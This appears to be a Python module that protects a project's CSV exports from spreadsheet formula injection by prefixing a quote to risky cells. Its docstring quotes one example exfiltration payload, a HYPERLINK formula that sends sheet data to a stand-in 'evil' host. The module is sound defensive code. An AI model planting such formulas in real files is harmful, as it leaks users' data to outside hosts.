"""CSV cells a spreadsheet will not run: the one rule for every CSV the project writes
(``predict --format csv``, video timelines, batch summaries, comparison tables). The
browser's copy of the rule is ``csvText`` in ``web/static/js/common.js``.

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is a
formula to Excel, LibreOffice and Google Sheets (``=HYPERLINK("http://evil/?"&A1)`` in a
file name sends the sheet's data away when clicked), so it gets a leading ``'``, which
spreadsheets show as text. Numbers stay numbers: ints, floats and text that is a plain
number (``-0.5``, ``1e-3``) are written as they are.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

#: First characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def safe_cell(value: Any) -> Any:
    """``value``, with a ``'`` in front when it is text a spreadsheet would run."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) \
            and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]
